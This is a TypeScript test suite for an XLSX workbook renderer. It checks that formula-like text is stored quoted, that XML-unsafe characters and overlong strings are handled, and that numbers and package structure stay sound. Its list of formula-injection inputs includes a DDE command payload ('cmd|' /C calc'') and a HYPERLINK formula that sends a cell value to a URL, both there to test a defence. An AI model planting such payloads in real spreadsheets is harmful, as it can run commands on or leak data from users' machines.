import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { CellValue, SheetFor, Workbook } from '../../../src/model/workbook.js';
import { renderWorkbook } from '../../../src/output/xlsx/workbook.js';
import { made } from '../../support/made.js';
import { packageFaults } from '../../support/package-faults.js';
import { hasSchemas, schemaFaults } from '../../support/schema.js';
import { readXlsx } from '../../support/xlsx.js';

/** A workbook of one sheet whose only column, from its fourth row on, holds these. */
function bookOf(cells: readonly CellValue<number>[], own: Partial<SheetFor<'public' | 'contents'>> = {}): Workbook {
  const sheet: SheetFor<'public' | 'contents'> = {
    name: 'Sheet',
    audience: 'public',
    title: 'Title',
    note: 'Note',
    columns: [{ heading: 'Heading', width: 12, format: 'decimal1' }],
    rows: made(cells.map((cell) => ({ look: 'plain', cells: [cell] }))),
    frozenColumns: 1,
    ...own,
  };
  return { title: 'Book', creator: 'Team', language: 'ja-JP', created: '2026-01-31', sheets: [sheet] };
}

function heldBy(cells: readonly CellValue<number>[]) {
  const [sheet] = readXlsx(renderWorkbook(bookOf(cells)));
  return cells.map((_, index) => sheet?.rows[3 + index]?.[0] ?? null);
}

describe('a text', () => {
  it.each([
    '=1+1',
    '=HYPERLINK("http://example.com/"&A1,"click")',
    '+1',
    '-1',
    '−1',
    '@SUM(A1)',
    '＝1+1',
    "-1+cmd|' /C calc'!A0",
    '\t=1',
  ])('that begins as a formula does is a text, and says so: %j', (text) => {
    const [cell] = heldBy([text]);
    expect(cell).toMatchObject({ type: 'text', quoted: true, value: text.replace('\t', ' ') });
  });

  it.each(['1', '0.5', '2026-01-31', 'TRUE', '#N/A', 'A1', '１'])('that could be something else stays as it is: %s', (text) => {
    expect(heldBy([text])).toMatchObject([{ type: 'text', quoted: false, value: text }]);
  });

  it.each([
    ['markup', '<b>&amp;"\'</b>]]>', '<b>&amp;"\'</b>]]>'],
    ['what Excel would read as an escape', '_x0041_ and _x005F_', '_x0041_ and _x005F_'],
    ['letters beyond the first plane', '𠮷野家 😀 髙﨑㈱', '𠮷野家 😀 髙﨑㈱'],
    ['characters that XML forbids', 'a\u0000b\u0001c\u000bd\uffff', 'abcd'],
    ['half a character', 'a\ud83d', 'a\ufffd'],
    ['spaces at its ends', '  a  ', '  a  '],
    ['nothing', '', ''],
  ])('of %s breaks nothing', (_, text, held) => {
    expect(heldBy([text])).toMatchObject([{ type: 'text', value: held }]);
  });

  it('longer than a cell may be is cut with an ellipsis, and not within a character', () => {
    const [cut, whole, odd] = heldBy(['a'.repeat(40_000), 'b'.repeat(32_767), `${'c'.repeat(32_765)}😀😀`]);
    expect(String(cut?.value)).toBe(`${'a'.repeat(32_766)}…`);
    expect(String(whole?.value)).toHaveLength(32_767);
    expect(String(odd?.value)).toBe(`${'c'.repeat(32_765)}…`);
  });

  it('is read back as it was written, whatever it is', () => {
    const text = fc.string({ unit: 'binary', maxLength: 40 }).map((words) => words.replace(/[\p{Cc}\p{Cs}\ufffe\uffff]/gu, '·'));
    fc.assert(
      fc.property(fc.array(text, { maxLength: 20 }), (texts) => {
        expect(heldBy(texts).map((cell) => cell?.value)).toEqual(texts);
      }),
      { numRuns: 60 },
    );
  });
});

describe('a number', () => {
  it('is held in full, with the format of its column', () => {
    const numbers = [0, 1, -1.5, 144 / 33, 1e-9, 1e21, Number.MAX_SAFE_INTEGER, 5e-324];
    expect(heldBy(numbers)).toMatchObject(numbers.map((value) => ({ type: 'number', value, format: '0.0' })));
    expect(heldBy([-0]).map((cell) => Object.is(cell?.value, 0))).toEqual([true]);
  });

  it.each([Number.NaN, Number.POSITIVE_INFINITY])('is never %d', (value) => {
    expect(() => renderWorkbook(bookOf([value]))).toThrow(/A4 holds .* not a number that a cell can hold/);
  });

  it('is not what an empty cell holds', () => {
    expect(heldBy([null, 0])).toEqual([null, expect.objectContaining({ value: 0 })]);
  });
});

describe('a workbook', () => {
  const hostile = ['=1+1', '<&>"\'', '_x0041_', '\u0001', '😀', 'a'.repeat(40_000), 1.5, null];
  const wide = (count: number) => ({
    columns: Array.from({ length: count }, (_, index) => ({ heading: `c${index}`, width: 5, format: 'general' as const })),
    rows: made([{ look: 'total', cells: Array.from({ length: count }, (_, index) => index) }]),
  });

  it('has columns beyond Z and ZZ', () => {
    const [sheet] = readXlsx(renderWorkbook(bookOf([], wide(750))));
    expect(sheet?.rows[3]?.map((cell) => cell?.value)).toEqual(Array.from({ length: 750 }, (_, index) => index));
  });

  it('is a sound package, with hostile texts in every place and with no rows at all', () => {
    for (const book of [bookOf(hostile), bookOf([]), bookOf([], wide(60)), bookOf(hostile, { title: '=x<&>', note: '\u0002' })])
      expect(packageFaults(renderWorkbook(book))).toEqual([]);
  });

  it.skipIf(!hasSchemas())('is what the schemas of Open XML ask for', async () => {
    for (const book of [bookOf(hostile), bookOf([]), bookOf(['a'], { audience: 'contents', frozenColumns: 0 })])
      expect(await schemaFaults(renderWorkbook(book), 'xlsx')).toEqual([]);
  });
});
